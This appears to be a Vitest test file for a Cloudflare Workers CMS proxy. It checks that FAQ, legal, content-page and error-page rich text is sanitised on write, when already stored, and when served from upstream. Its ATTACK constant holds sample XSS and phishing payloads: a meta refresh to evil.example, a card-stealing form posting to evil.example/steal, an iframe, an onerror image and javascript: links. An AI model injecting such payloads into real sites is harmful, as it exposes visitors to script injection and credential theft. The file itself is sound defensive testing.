// Rich text from ops or an upstream CMS is untrusted: a FAQ answer (and every other HTML field a page renders as
// markup) that carries a refresh, a form, an iframe, an image with a handler or a javascript: link reaches the page as
// text formatting and safe links only, whether it was written through ops, found already stored, or served upstream.
import { SELF } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { tenantBySlug } from "../../tenants";
import { createApp } from "../app";
import type { Env } from "../env";
import { clearDocumentCache } from "./document-cache";
import { contentReaderFor } from "./content-reader";
import { seedCms } from "./store";
import { ops } from "../ops/testing";

const { DB } = env as unknown as { DB: D1Database };

/** Harmless formatting and a safe link around every attack of the issue. */
const ATTACK = [
  "<p>Open <strong>daily</strong> from 10AM.</p>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example/steal" method="post"><input name="card" placeholder="Card number"><button>Pay</button></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<img src=x onerror="alert(1)">',
  '<a href="javascript:alert(1)">Claim your prize</a>',
  '<a href="https://www.skidxb.example/tickets" onclick="alert(1)">Our tickets</a>',
].join("");

/** The elements a browser builds from the markup, with their attributes (HTMLRewriter tokenises as browsers do). */
async function elementsOf(html: string): Promise<{ tag: string; attributes: [string, string][] }[]> {
  const found: { tag: string; attributes: [string, string][] }[] = [];
  await new HTMLRewriter()
    .on("*", { element: (element) => void found.push({ tag: element.tagName, attributes: [...(element.attributes as Iterable<[string, string]>)] }) })
    .transform(new Response(html))
    .text();
  return found;
}

/** Asserts the markup keeps the harmless parts and nothing of the attack. */
async function expectDefused(html: string, where: string) {
  const elements = await elementsOf(html);
  const tags = elements.map((e) => e.tag);
  for (const tag of ["meta", "form", "input", "button", "iframe", "img", "script"]) expect(tags, `${where}: <${tag}>`).not.toContain(tag);
  const attributes = elements.flatMap((e) => e.attributes.map(([name, value]) => `${e.tag}[${name}=${value}]`));
  expect(attributes.filter((a) => /\[on/i.test(a)), `${where}: event handlers`).toEqual([]);
  expect(attributes.filter((a) => /javascript:/i.test(a)), `${where}: javascript: links`).toEqual([]);
  expect(html, `${where}: harmless formatting`).toContain("<p>Open <strong>daily</strong> from 10AM.</p>");
  expect(attributes, `${where}: the safe link`).toContain("a[href=https://www.skidxb.example/tickets]");
}

async function cmsResult(call: string, query = "") {
  const response = await SELF.fetch(`https://shop.test/api/cms/ski-dubai/${call}?Lang=en${query}`);
  expect(response.status, call).toBe(200);
  return ((await response.json()) as { Result: any }).Result;
}

async function storedBody(key: string) {
  const row = await DB.prepare("SELECT body FROM cms_documents WHERE site = 'ski-dubai' AND locale = 'en' AND doc_key = ?1").bind(key).first<{ body: string }>();
  return JSON.parse(row!.body);
}

const dubai = tenantBySlug("ski-dubai")!;
const pageContent = (bindings: Env) => contentReaderFor(bindings, { tenant: dubai, locale: "en", dir: "ltr", prefix: dubai.prefixes.en, rest: "" });

/** The first answer of a FAQ read; a read without one fails the test. */
const firstAnswer = (faq: { answer: string }[] | null) => faq?.[0]?.answer ?? expect.fail("no FAQ answer");
const faqEntry = (answer: string) => ({ lang: "en", site: "ski-dubai", question: "Can I win free tickets?", answer, pageToAddTo: ["faq"] });
const errorPages = (html: string) => ({
  maintenance_page: { title: "Closed", web_mobile_title: "Closed", subtitle: "Back soon", description_highlighted: html },
  not_found_page: { title: "Not found", subtitle: "Gone", description_highlighted: html },
});

beforeEach(async () => {
  await seedCms(DB);
});

afterEach(async () => {
  await DB.batch([DB.prepare("DELETE FROM ops_changes"), DB.prepare("DELETE FROM cms_documents WHERE seed_hash IS NULL")]);
  await seedCms(DB);
  clearDocumentCache();
});

describe("rich text written through ops", () => {
  it("a FAQ answer with a refresh, a form, an iframe, an image handler and a javascript: link is stored and served without them", async () => {
    const put = await ops("PUT", "/content/ski-dubai/en/faq", [faqEntry(ATTACK)]);
    expect(put.status).toBe(200);
    // Sanitised before it is stored, and ops is told which field was changed.
    await expectDefused((await storedBody("faq"))[0].answer, "stored");
    expect(put.body.sanitised).toEqual(["0.answer"]);

    await expectDefused((await cmsResult("api/FAQ/GetFAQ"))[0].answer, "the FAQ call");
    await expectDefused((await cmsResult("api/FAQ/GetFAQ", "&Page=faq"))[0].answer, "the FAQ call of a page");
    await expectDefused(firstAnswer(await pageContent(env as unknown as Env).faq("faq")), "the FAQ page's loader");
  });

  it("so are the legal sections, content pages and the maintenance and not-found descriptions", async () => {
    const legal = await storedBody("legal");
    legal.privacy_policy.sections[0].body = ATTACK;
    legal.terms_and_conditions.sections[0].body = ATTACK;
    expect((await ops("PUT", "/content/ski-dubai/en/legal", legal)).status).toBe(200);
    const pages = await storedBody("pages");
    pages[0].body = ATTACK;
    expect((await ops("PUT", "/content/ski-dubai/en/pages", pages)).status).toBe(200);
    expect((await ops("PUT", "/content/ski-dubai/en/error-and-maintenance", errorPages(ATTACK))).status).toBe(200);

    const servedLegal = await cmsResult("api/PrivacyPolicyAndTAndCs/GetPrivacyPolicyAndTAndCs");
    await expectDefused(servedLegal.privacy_policy.sections[0].body, "privacy policy");
    await expectDefused(servedLegal.terms_and_conditions.sections[0].body, "terms");
    await expectDefused((await cmsResult("api/ContentPage/GetContentPage", `&Name=${pages[0].name}`)).body, "content page");
    const servedErrors = await cmsResult("api/ErrorAndMaintenancePage/GetErrorAndMaintenancePage");
    await expectDefused(servedErrors.maintenance_page.description_highlighted, "maintenance");
    await expectDefused(servedErrors.not_found_page.description_highlighted, "not found");
  });

  it("an answer with nothing left after cleaning is refused and nothing is stored", async () => {
    const before = await storedBody("faq");
    const put = await ops("PUT", "/content/ski-dubai/en/faq", [faqEntry('<iframe src="https://evil.example"></iframe>')]);
    expect(put.status).toBe(400);
    expect(put.body.issues?.[0]?.field ?? JSON.stringify(put.body)).toBe("0.answer");
    expect(await storedBody("faq")).toEqual(before);
  });
});

it("rich text already stored (written before, or straight into the database) is served without the attack", async () => {
  await DB.prepare("UPDATE cms_documents SET body = ?1, seed_hash = NULL, updated_by = 'sql' WHERE site = 'ski-dubai' AND locale = 'en' AND doc_key = 'faq'")
    .bind(JSON.stringify([faqEntry(ATTACK)]))
    .run();
  await expectDefused((await cmsResult("api/FAQ/GetFAQ"))[0].answer, "the FAQ call");
  await expectDefused(firstAnswer(await pageContent(env as unknown as Env).faq("faq")), "the FAQ page's loader");
});

describe("rich text from an upstream CMS", () => {
  const UPSTREAM = "https://cms.upstream.test";
  const shopEnv = { ...(env as unknown as Env), CMS_API_URL: UPSTREAM };
  const shop = createApp((c) => c.text("page"));
  const realFetch = globalThis.fetch;

  beforeEach(() => {
    vi.spyOn(globalThis, "fetch").mockImplementation(async (input, init) => {
      const url = typeof input === "string" ? input : input instanceof URL ? input.href : input.url;
      if (!url.startsWith(UPSTREAM)) return realFetch(input as RequestInfo, init);
      const path = new URL(url).pathname;
      const Result = path.endsWith("/api/FAQ/GetFAQ") ? [faqEntry(ATTACK)] : path.endsWith("/GetErrorAndMaintenancePage") ? errorPages(ATTACK) : null;
      return Response.json(Result ? { Result, Success: true } : { Result: 404, Success: false }, { status: Result ? 200 : 404 });
    });
  });
  afterEach(() => vi.restoreAllMocks());

  it("is served through the proxy seam without the attack, to the browser's calls and to the page's loaders", async () => {
    const faq = await shop.request("https://shop.test/api/cms/ski-dubai/api/FAQ/GetFAQ?Lang=en", {}, shopEnv);
    expect(faq.status).toBe(200);
    await expectDefused(firstAnswer(((await faq.json()) as { Result: { answer: string }[] }).Result), "the FAQ call");

    const content = pageContent(shopEnv);
    await expectDefused(firstAnswer(await content.faq("faq")), "the FAQ page's loader");
    const errors = (await content.errorAndMaintenance())!;
    await expectDefused(errors.maintenance_page.description_highlighted, "maintenance");
    await expectDefused(errors.not_found_page.description_highlighted, "not found");
  });
});
